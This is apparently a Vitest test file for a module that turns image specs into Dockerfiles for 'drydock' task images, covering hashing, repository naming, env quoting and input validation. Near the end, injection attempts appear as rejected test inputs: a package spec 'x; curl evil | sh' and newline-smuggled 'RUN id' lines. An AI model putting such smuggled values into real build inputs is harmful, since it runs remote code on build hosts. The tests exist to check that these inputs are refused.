import { describe, expect, it } from "vitest";

import { TaskImageError } from "./errors.js";
import { taskImageDockerfile, taskImageHash, taskImageRepository, taskImageTag } from "./recipe.js";

const BASE_ID = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
const spec = {
  name: "tools",
  packages: ["is-number@7.0.0", "@scope/x@^1.2.0"],
  env: { B: "2", A: "1" },
};

describe("taskImageHash / taskImageTag", () => {
  it("is 16 hex, the same for the same content, and names the image's repository", () => {
    const hash = taskImageHash(spec, BASE_ID);
    expect(hash).toMatch(/^[0-9a-f]{16}$/);
    expect(
      taskImageHash({ ...spec, packages: [...spec.packages], env: { ...spec.env } }, BASE_ID),
    ).toBe(hash);
    expect(taskImageTag(spec, BASE_ID)).toBe(`drydock-task/tools:${hash}`);
  });

  it("hashes [format 1, base ID, sorted packages, env entries sorted by name] as JSON; a change rebuilds every task image", () => {
    expect(taskImageHash(spec, BASE_ID)).toBe("a128c79ca71db6a2");
  });

  it("does not depend on the order of packages or env", () => {
    const reordered = {
      name: "tools",
      packages: ["@scope/x@^1.2.0", "is-number@7.0.0"],
      env: { A: "1", B: "2" },
    };
    expect(taskImageHash(reordered, BASE_ID)).toBe(taskImageHash(spec, BASE_ID));
    expect(
      taskImageHash({ ...spec, packages: [...spec.packages, "is-number@7.0.0"] }, BASE_ID),
    ).toBe(taskImageHash(spec, BASE_ID));
  });

  it("changes with the base image's ID, the packages and the env, not with the name", () => {
    const hash = taskImageHash(spec, BASE_ID);
    const others = [
      taskImageHash(spec, BASE_ID.replace(/1$/, "2")),
      taskImageHash({ ...spec, packages: ["is-number@7.0.1", "@scope/x@^1.2.0"] }, BASE_ID),
      taskImageHash({ ...spec, packages: ["is-number@7.0.0"] }, BASE_ID),
      taskImageHash({ ...spec, env: { A: "1", B: "3" } }, BASE_ID),
      taskImageHash({ ...spec, env: { A: "1", C: "2" } }, BASE_ID),
      taskImageHash({ ...spec, env: { A: "1" } }, BASE_ID),
    ];
    expect(new Set([hash, ...others]).size).toBe(others.length + 1);
    expect(taskImageHash({ ...spec, name: "other" }, BASE_ID)).toBe(hash);
  });

  it("makes a valid Docker repository of any name", () => {
    expect(taskImageRepository("interactive-tasks-example")).toBe(
      "drydock-task/interactive-tasks-example",
    );
    expect(taskImageRepository("My Tools!")).toBe("drydock-task/my-tools");
    expect(taskImageRepository("a..b__c")).toBe("drydock-task/a-b-c");
    expect(taskImageRepository("___")).toBe("drydock-task/image");
    expect(taskImageRepository("x".repeat(300))).toBe(`drydock-task/${"x".repeat(128)}`);
  });
});

describe("taskImageDockerfile", () => {
  const hash = "0123456789abcdef";

  it("installs the packages under /opt/drydock, sets the env and labels the hash", () => {
    expect(taskImageDockerfile(spec, { baseImage: "drydock/agent:latest", hash })).toBe(
      [
        "FROM drydock/agent:latest",
        "RUN npm install --prefix /opt/drydock --no-audit --no-fund @scope/x@^1.2.0 is-number@7.0.0",
        'ENV A="1"',
        'ENV B="2"',
        "LABEL drydock.image-spec=0123456789abcdef",
        "",
      ].join("\n"),
    );
  });

  it("declares NPM_CONFIG_REGISTRY as a build argument only when the build passes a registry", () => {
    const lines = taskImageDockerfile(spec, {
      baseImage: "drydock/agent:latest",
      hash,
      npmRegistry: true,
    }).split("\n");
    expect(lines.slice(0, 3)).toEqual([
      "FROM drydock/agent:latest",
      "ARG NPM_CONFIG_REGISTRY",
      "RUN npm install --prefix /opt/drydock --no-audit --no-fund @scope/x@^1.2.0 is-number@7.0.0",
    ]);
    expect(taskImageDockerfile(spec, { baseImage: "drydock/agent:latest", hash })).not.toContain(
      "ARG",
    );
  });

  it("runs no npm install without packages", () => {
    expect(
      taskImageDockerfile(
        { name: "plain", packages: [], env: {} },
        { baseImage: "my/base:1", hash, npmRegistry: true },
      ),
    ).toBe("FROM my/base:1\nLABEL drydock.image-spec=0123456789abcdef\n");
  });

  it("quotes env values so the Dockerfile reads them back as written: quotes, backslashes, $ and all", () => {
    const dockerfile = taskImageDockerfile(
      {
        name: "env",
        packages: [],
        env: { GREETING: 'say "hi" to $HOME and ${USER}', PATHS: "C:\\dir\\$x", EMPTY: "" },
      },
      { baseImage: "my/base:1", hash },
    );
    expect(dockerfile).toContain('ENV GREETING="say \\"hi\\" to \\$HOME and \\${USER}"\n');
    expect(dockerfile).toContain('ENV PATHS="C:\\\\dir\\\\\\$x"\n');
    expect(dockerfile).toContain('ENV EMPTY=""\n');
  });

  it.each([
    [{ env: { "BAD-NAME": "x" } }, 'ImageSpec "tools": env name "BAD-NAME" is not valid'],
    [{ env: { "1ST": "x" } }, 'ImageSpec "tools": env name "1ST" is not valid'],
    [{ env: { "A B": "x" } }, 'ImageSpec "tools": env name "A B" is not valid'],
    [
      { env: { MULTI: "line\nRUN id" } },
      'ImageSpec "tools": the value of env MULTI holds a control character',
    ],
    [
      { packages: ["is-number@7.0.0", "x; curl evil | sh"] },
      'ImageSpec "tools": package "x; curl evil | sh" is not an npm package spec',
    ],
  ])("refuses %j with an error naming the entry", (change, message) => {
    const attempt = () =>
      taskImageDockerfile({ ...spec, ...change }, { baseImage: "drydock/agent:latest", hash });
    expect(attempt).toThrow(TaskImageError);
    expect(attempt).toThrow(message);
  });

  it("refuses a base image reference that is not one word", () => {
    expect(() => taskImageDockerfile(spec, { baseImage: "node:20\nRUN id", hash })).toThrow(
      'ImageSpec "tools": baseImage "node:20\\nRUN id" is not an image reference',
    );
  });
});
